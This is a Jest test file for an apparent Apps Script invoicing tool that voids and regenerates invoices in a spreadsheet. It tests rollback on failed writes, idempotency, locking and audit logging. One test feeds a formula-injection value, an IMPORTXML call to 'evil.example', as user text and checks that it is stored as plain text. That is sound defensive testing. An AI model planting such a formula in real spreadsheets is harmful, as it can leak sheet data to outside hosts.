import { formulaCell, textCell } from '../../fake-apps-script/src';
import { PROTECTED, bookkeepersView, nurserySheets, openBook, records } from './harness';

const request = (extra: object = {}) => ({
  action: 'void-and-regenerate',
  invoiceIds: ['INV-1', 'INV-2', 'INV-3', 'NOPE'],
  reason: 'Schedule changed',
  ...extra,
});

/** Sheets cut to their rows (appends insert rows) and sheets with room to spare. */
const SHAPES: [string, Record<string, number> | undefined][] = [
  ['sheets exactly full', undefined],
  ['sheets with spare rows', { Invoices: 200, 'Invoice Lines': 200, Payments: 200, 'Credit Notes': 50 }],
];

describe.each(SHAPES)(
  'all or nothing (%s): a write that fails midway leaves the workbook exactly as before',
  (_shape, maxRows) => {
    const open = () => openBook(nurserySheets(), { maxRows });
    const probe = open();
    probe.apps.faults.clear();
    probe.call('revoiceApply', request());
    const writePoints = probe.apps.faults.writeCount;

    it('the multi-invoice apply has several write points', () => {
      expect(writePoints).toBeGreaterThanOrEqual(8);
    });

    it.each(Array.from({ length: writePoints }, (_, i) => i + 1))(
      'failing write %i of the apply restores everything',
      (n) => {
        const book = open();
        const before = bookkeepersView(book.apps);
        book.apps.faults.failWriteAt(n, PROTECTED);
        const response = book.call('revoiceApply', request());
        expect(response).toMatchObject({ ok: false, code: 'WRITE_FAILED' });
        expect(response.message).toMatch(/Nothing was changed/);
        expect(bookkeepersView(book.apps)).toEqual(before);
        expect(book.apps.lock.released).toBe(book.apps.lock.acquired);
      },
    );
  },
);

describe('restoring overwritten cells exactly', () => {
  it('puts back a formula and a number-like text that the void overwrote', () => {
    const sheets = nurserySheets();
    sheets.Invoices[0].push('Voided At', 'Void Reason');
    // a Status formula is refused now (a void it swallowed would be reported but never shown): Total's is kept
    sheets.Invoices[1][11] = formulaCell('=J2+K2', 135);
    sheets.Invoices[1].push('', textCell('0042'));
    const probe = openBook(sheets);
    probe.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'] });
    const book = openBook(sheets);
    const before = bookkeepersView(book.apps);
    // the last write of the changes (the journal's "done" mark follows): everything else is written by then
    book.apps.faults.failWriteAt(probe.apps.faults.writeCount - 1, PROTECTED);
    expect(book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV-1'] })).toMatchObject({
      code: 'WRITE_FAILED',
    });
    expect(bookkeepersView(book.apps)).toEqual(before);
    expect(book.apps.formulas('Invoices')[1][11]).toBe('=J2+K2');
    expect(probe.apps.display('Invoices')[1][15]).toBe('');
  });
});

describe('once only', () => {
  it('the same request key applied twice returns the first result and writes nothing', () => {
    const book = openBook(nurserySheets());
    const first = book.call('revoiceApply', request({ requestKey: 'key-1' }));
    const after = book.apps.snapshot();
    book.apps.calls.reset();
    const second = book.call('revoiceApply', request({ requestKey: 'key-1' }));
    expect(second).toEqual(first);
    expect(book.apps.calls.writes).toBe(0);
    expect(book.apps.snapshot()).toEqual(after);
  });

  it('a new request key on the same invoices reports them as already done', () => {
    const book = openBook(nurserySheets());
    book.call('revoiceApply', request({ requestKey: 'key-1' }));
    const second = book.call('revoiceApply', request({ requestKey: 'key-2' }));
    expect(second.results[0]).toMatchObject({ ok: false, code: 'ALREADY_VOIDED' });
  });

  it('an invoice changed since its preview is STALE; the unchanged one goes ahead', () => {
    const book = openBook(nurserySheets());
    const preview = book.call('revoicePreview', { action: 'void-and-regenerate', invoiceIds: ['INV-1', 'INV-2'] });
    const fingerprints = Object.fromEntries(preview.results.map((r: any) => [r.invoiceId, r.fingerprint]));
    // Someone adds a payment to INV-1 between preview and apply.
    const payments = book.apps.spreadsheet.getSheetByName('Payments')!;
    payments.insertRowsAfter(payments.getMaxRows(), 1);
    payments.getRange(4, 1, 1, 4).setValues([['P-9', 'INV-1', 'x', 10]]);
    const response = book.call('revoiceApply', {
      action: 'void-and-regenerate',
      invoiceIds: ['INV-1', 'INV-2'],
      fingerprints,
      requestKey: 'k',
    });
    expect(response.results[0]).toMatchObject({ invoiceId: 'INV-1', ok: false, code: 'STALE' });
    expect(response.results[1]).toMatchObject({ invoiceId: 'INV-2', ok: true, newInvoiceId: 'INV-2-R1' });
  });

  it('BUSY when the document lock is held elsewhere, and nothing is written', () => {
    const book = openBook(nurserySheets());
    const before = book.apps.snapshot();
    book.apps.lock.heldByOther = true;
    expect(book.call('revoiceApply', request())).toMatchObject({ ok: false, code: 'BUSY' });
    expect(book.apps.lock.lastWaitMs).toBe(30000);
    expect(book.apps.snapshot()).toEqual(before);
  });

  it('re-reads inside the lock: previewing writes nothing and takes no lock', () => {
    const book = openBook(nurserySheets());
    const before = book.apps.snapshot();
    book.apps.calls.reset();
    const preview = book.call('revoicePreview', request());
    expect(preview.ok).toBe(true);
    expect(book.apps.calls.writes).toBe(0);
    expect(book.apps.lock.acquired).toBe(0);
    expect(book.apps.snapshot()).toEqual(before);
  });
});

describe('nothing lost, nothing leaked', () => {
  it("never edits existing payments, lines or invoices other than the original's own cells", () => {
    const book = openBook(nurserySheets());
    const before = {
      lines: book.apps.display('Invoice Lines'),
      payments: book.apps.display('Payments'),
      invoices: book.apps.display('Invoices'),
    };
    book.call('revoiceApply', request());
    // The draft INV-3 is rebuilt in place: its own old line goes (it comes back among the new ones).
    const kept = before.lines.filter((row) => row[0] !== 'INV-3');
    expect(book.apps.display('Invoice Lines').slice(0, kept.length)).toEqual(kept);
    expect(book.apps.display('Payments').slice(0, before.payments.length)).toEqual(before.payments);
    const invoices = book.apps.display('Invoices');
    const width = before.invoices[0].length;
    // INV-1 and INV-2 were voided: only their Status changed among the user's columns; the draft's
    // totals were rewritten from its (unchanged) lines: the same.
    const statusColumn = before.invoices[0].indexOf('Status');
    const userCells = (row: string[]) => row.slice(0, width).filter((_, i) => i !== statusColumn);
    expect(invoices.slice(1, 3).map(userCells)).toEqual(before.invoices.slice(1, 3).map(userCells));
    expect(invoices[3].slice(0, width)).toEqual(before.invoices[3]);
  });

  it('writes user text as text, never as a formula', () => {
    const book = openBook(nurserySheets());
    const reason = '=IMPORTXML("http://evil.example","//a")';
    const add = [
      { description: '+SUM(A1:A9)', quantity: '1', unitPrice: '5' },
      { description: '@me -1', quantity: 2, unitPrice: 1 },
    ];
    const response = book.call('revoiceApply', {
      action: 'void-and-regenerate',
      invoiceIds: ['INV-1'],
      reason,
      mode: 'copy',
      edits: { 'INV-1': { add } },
    });
    expect(response.results[0].ok).toBe(true);
    const invoice = records(book, 'Invoices')[0];
    expect(invoice['Void Reason']).toBe(reason);
    const lines = records(book, 'Invoice Lines').slice(-2);
    expect(lines.map((l) => l.Description)).toEqual(['+SUM(A1:A9)', '@me -1']);
    const formulas = book.apps.formulas('Invoice Lines').flat().concat(book.apps.formulas('Audit Log').flat());
    expect(formulas.filter(Boolean)).toEqual([]);
  });

  it('an ID with quotes still links correctly', () => {
    const sheets = nurserySheets();
    sheets.Invoices[1][0] = 'INV "A"';
    sheets['Invoice Lines'][1][0] = 'INV "A"';
    sheets['Invoice Lines'][2][0] = 'INV "A"';
    const book = openBook(sheets);
    const response = book.call('revoiceApply', { action: 'void-and-regenerate', invoiceIds: ['INV "A"'] });
    expect(response.results[0].newInvoiceId).toBe('INV "A"-R1');
    const header = book.apps.display('Invoices')[0];
    expect(book.apps.resolveLink('Invoices', 2, header.indexOf('Regenerated As') + 1)).toMatchObject({
      label: 'INV "A"-R1',
      targetRow: 5,
    });
  });

  it('leaves unknown columns alone and never copies them to new rows', () => {
    const book = openBook(nurserySheets());
    book.call('revoiceApply', request());
    const rows = records(book, 'Invoices');
    expect(rows.map((r) => r['Accounting ID'])).toEqual(['XERO-001', 'XERO-002', '', '', '']);
  });

  it('appends Revoice-owned columns to the header on first write, leaving the rest in place', () => {
    const book = openBook(nurserySheets());
    const header = book.apps.display('Invoices')[0];
    book.call('revoiceApply', request());
    const after = book.apps.display('Invoices')[0];
    expect(after.slice(0, header.length)).toEqual(header);
    expect(after.slice(header.length)).toEqual([
      'Voided At',
      'Void Reason',
      'Regenerated From',
      'Regenerated As',
      'Paid',
      'Balance',
    ]);
  });

  it('writes an Audit Log row per applied invoice', () => {
    const book = openBook(nurserySheets());
    book.call('revoiceApply', request({ requestKey: 'audit-1' }));
    const audit = records(book, 'Audit Log');
    expect(audit.map((a) => [a.Action, a['Invoice ID'], a['Result ID'], a['Request Key'], a.User])).toEqual([
      ['void-and-regenerate', 'INV-1', 'INV-1-R1', 'audit-1', 'bookkeeper@example.com'],
      ['void-and-regenerate', 'INV-2', 'INV-2-R1', 'audit-1', 'bookkeeper@example.com'],
      ['void-and-regenerate', 'INV-3', 'INV-3', 'audit-1', 'bookkeeper@example.com'],
    ]);
    expect(JSON.parse(audit[0].Details).result).toMatchObject({ invoiceId: 'INV-1', newInvoiceId: 'INV-1-R1' });
  });
});

describe('fingerprints across chunks', () => {
  it('a first chunk that adds Revoice columns does not make the next chunk STALE', () => {
    const book = openBook(nurserySheets());
    const preview = book.call('revoicePreview', { action: 'void', invoiceIds: ['INV-1', 'INV-2'] });
    const fingerprints = Object.fromEntries(preview.results.map((r: any) => [r.invoiceId, r.fingerprint]));
    const first = book.call('revoiceApply', {
      action: 'void',
      invoiceIds: ['INV-1'],
      fingerprints: { 'INV-1': fingerprints['INV-1'] },
      requestKey: 'k-c1',
    });
    expect(first.results[0].ok).toBe(true);
    const second = book.call('revoiceApply', {
      action: 'void',
      invoiceIds: ['INV-2'],
      fingerprints: { 'INV-2': fingerprints['INV-2'] },
      requestKey: 'k-c2',
    });
    expect(second.results[0]).toMatchObject({ ok: true, voided: true });
  });
});
